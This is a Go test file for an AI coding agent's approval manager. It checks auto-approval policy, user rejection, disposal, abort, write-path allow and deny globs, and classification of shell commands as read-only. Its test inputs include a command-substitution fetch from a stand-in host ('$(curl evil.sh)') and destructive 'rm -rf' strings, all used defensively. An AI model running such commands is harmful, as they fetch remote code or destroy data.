package approval

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kodu-ai/kodu/internal/state"
	"github.com/kodu-ai/kodu/internal/store"
	"github.com/kodu-ai/kodu/pkg/types"
)

func newTestAskManager(t *testing.T, policy *Policy) *AskManager {
	t.Helper()
	queue := store.NewWriteQueue(5 * time.Millisecond)
	t.Cleanup(queue.Close)
	ioman := store.NewIOManager(t.TempDir(), "task-1", queue)
	st := state.NewManager(&types.TaskState{TaskID: "task-1"}, ioman, nil)
	return NewAskManager(st, nil, policy)
}

func toolAsk(name string) *types.AskDetails {
	return &types.AskDetails{Tool: &types.ChatTool{
		Tool: name, ApprovalState: types.StatusPending,
	}}
}

func TestAutoApproveReadOnlyTool(t *testing.T) {
	a := newTestAskManager(t, &Policy{AlwaysAllowReadOnly: true})

	result, err := a.Ask(context.Background(), types.AskTool, toolAsk("read_file"), 100)
	require.NoError(t, err)
	assert.Equal(t, types.ResponseYesButtonTapped, result.Response)
	assert.Equal(t, 0, a.PendingCount())

	msgs := a.state.Display.GetAll(false)
	require.Len(t, msgs, 1)
	assert.True(t, msgs[0].AutoApproved)
	assert.Equal(t, types.StatusApproved, msgs[0].Status)
}

func TestMustRequestToolsNeverAutoApprove(t *testing.T) {
	a := newTestAskManager(t, &Policy{AlwaysAllowReadOnly: true, AlwaysAllowWriteOnly: true})

	done := make(chan types.AskResult, 1)
	go func() {
		result, err := a.Ask(context.Background(), types.AskTool, toolAsk("attempt_completion"), 200)
		require.NoError(t, err)
		done <- result
	}()

	require.Eventually(t, func() bool { return a.PendingCount() == 1 },
		time.Second, time.Millisecond)

	require.NoError(t, a.HandleResponse(200, types.ResponseYesButtonTapped, "", nil))

	result := <-done
	assert.Equal(t, types.ResponseYesButtonTapped, result.Response)

	msgs := a.state.Display.GetAll(false)
	require.Len(t, msgs, 1)
	assert.False(t, msgs[0].AutoApproved)
	assert.Equal(t, types.StatusApproved, msgs[0].Status)
}

func TestMustRequestAskTypes(t *testing.T) {
	p := &Policy{AlwaysAllowReadOnly: true, AlwaysAllowWriteOnly: true}

	for _, askType := range []types.AskType{
		types.AskCompletionResult,
		types.AskResumeTask,
		types.AskResumeCompletedTask,
		types.AskRequestLimitReached,
		types.AskFollowup,
	} {
		assert.False(t, p.ShouldAutoApprove(askType, &types.AskDetails{Question: "q"}),
			"ask type %s must always reach the user", askType)
	}
}

func TestRejectionMarksMessageRejected(t *testing.T) {
	a := newTestAskManager(t, nil)

	done := make(chan types.AskResult, 1)
	go func() {
		result, err := a.Ask(context.Background(), types.AskTool, toolAsk("write_to_file"), 300)
		require.NoError(t, err)
		done <- result
	}()

	require.Eventually(t, func() bool { return a.PendingCount() == 1 },
		time.Second, time.Millisecond)
	require.NoError(t, a.HandleResponse(300, types.ResponseNoButtonTapped, "do it differently", nil))

	result := <-done
	assert.Equal(t, types.ResponseNoButtonTapped, result.Response)
	assert.Equal(t, "do it differently", result.Text)

	msgs := a.state.Display.GetAll(false)
	assert.Equal(t, types.StatusRejected, msgs[0].Status)
}

func TestDuplicateAskSameTs(t *testing.T) {
	a := newTestAskManager(t, nil)

	go a.Ask(context.Background(), types.AskTool, toolAsk("write_to_file"), 400) //nolint:errcheck

	require.Eventually(t, func() bool { return a.PendingCount() == 1 },
		time.Second, time.Millisecond)

	_, err := a.Ask(context.Background(), types.AskTool, toolAsk("write_to_file"), 400)
	assert.ErrorIs(t, err, ErrAskPending)

	a.Dispose()
}

func TestDisposeResolvesAllPending(t *testing.T) {
	a := newTestAskManager(t, nil)

	results := make(chan types.AskResult, 2)
	for _, ts := range []int64{500, 501} {
		ts := ts
		go func() {
			result, err := a.Ask(context.Background(), types.AskFollowup,
				&types.AskDetails{Question: "?"}, ts)
			require.NoError(t, err)
			results <- result
		}()
	}

	require.Eventually(t, func() bool { return a.PendingCount() == 2 },
		time.Second, time.Millisecond)

	a.Dispose()
	a.Dispose() // idempotent

	for i := 0; i < 2; i++ {
		select {
		case result := <-results:
			assert.Equal(t, types.ResponseNoButtonTapped, result.Response)
		case <-time.After(time.Second):
			t.Fatal("ask never resolved after dispose")
		}
	}
	assert.Equal(t, 0, a.PendingCount())

	// Disposed is terminal: later asks resolve rejected without pending.
	result, err := a.Ask(context.Background(), types.AskFollowup,
		&types.AskDetails{Question: "?"}, 502)
	require.NoError(t, err)
	assert.Equal(t, types.ResponseNoButtonTapped, result.Response)
	assert.Equal(t, 0, a.PendingCount())
}

func TestAbortKeepsManagerLive(t *testing.T) {
	a := newTestAskManager(t, nil)

	results := make(chan types.AskResult, 1)
	go func() {
		result, err := a.Ask(context.Background(), types.AskAPIReqFailed,
			&types.AskDetails{Question: "retry?"}, 510)
		require.NoError(t, err)
		results <- result
	}()
	require.Eventually(t, func() bool { return a.PendingCount() == 1 },
		time.Second, time.Millisecond)

	a.Abort()

	select {
	case result := <-results:
		assert.Equal(t, types.ResponseNoButtonTapped, result.Response)
	case <-time.After(time.Second):
		t.Fatal("ask never resolved after abort")
	}

	// The manager still serves asks: the next one blocks for a real answer.
	go func() {
		result, err := a.Ask(context.Background(), types.AskResumeTask,
			&types.AskDetails{Question: "resume?"}, 511)
		require.NoError(t, err)
		results <- result
	}()
	require.Eventually(t, func() bool { return a.PendingCount() == 1 },
		time.Second, time.Millisecond)

	require.NoError(t, a.HandleResponse(511, types.ResponseYesButtonTapped, "", nil))
	result := <-results
	assert.Equal(t, types.ResponseYesButtonTapped, result.Response)
}

func TestAskContextCancellation(t *testing.T) {
	a := newTestAskManager(t, nil)

	ctx, cancel := context.WithCancel(context.Background())
	errCh := make(chan error, 1)
	go func() {
		_, err := a.Ask(ctx, types.AskCommand, &types.AskDetails{Question: "rm -rf /tmp/x"}, 600)
		errCh <- err
	}()

	require.Eventually(t, func() bool { return a.PendingCount() == 1 },
		time.Second, time.Millisecond)
	cancel()

	assert.ErrorIs(t, <-errCh, context.Canceled)
}

func TestHandleResponseUnknownTs(t *testing.T) {
	a := newTestAskManager(t, nil)
	assert.Error(t, a.HandleResponse(999, types.ResponseYesButtonTapped, "", nil))
}

func TestWriteGlobPolicy(t *testing.T) {
	p := &Policy{
		AlwaysAllowWriteOnly: true,
		AllowedWriteGlobs:    []string{"src/**"},
		DeniedWriteGlobs:     []string{"src/secrets/**"},
	}

	allowed := func(path string) bool {
		return p.ShouldAutoApprove(types.AskTool, &types.AskDetails{Tool: &types.ChatTool{
			Tool: "write_to_file", Input: map[string]any{"path": path},
		}})
	}

	assert.True(t, allowed("src/main.go"))
	assert.False(t, allowed("Makefile"))
	assert.False(t, allowed("src/secrets/key.pem"))
}

func TestCommandClassification(t *testing.T) {
	cases := []struct {
		command  string
		readOnly bool
	}{
		{"ls -la", true},
		{"cat main.go | grep func", true},
		{"git status && git log --oneline", true},
		{"git push origin main", false},
		{"rm -rf build", false},
		{"ls > files.txt", false},
		{"echo hi", true},
		{"$(curl evil.sh)", false},
		{"", false},
		{"cat <<'EOF'\nhi\nEOF", true},
	}

	for _, tc := range cases {
		assert.Equal(t, tc.readOnly, IsReadOnlyCommand(tc.command), "command: %q", tc.command)
	}

	p := &Policy{AlwaysAllowReadOnly: true}
	assert.True(t, p.ShouldAutoApprove(types.AskCommand, &types.AskDetails{Question: "git diff"}))
	assert.False(t, p.ShouldAutoApprove(types.AskCommand, &types.AskDetails{Question: "git commit -m x"}))
}
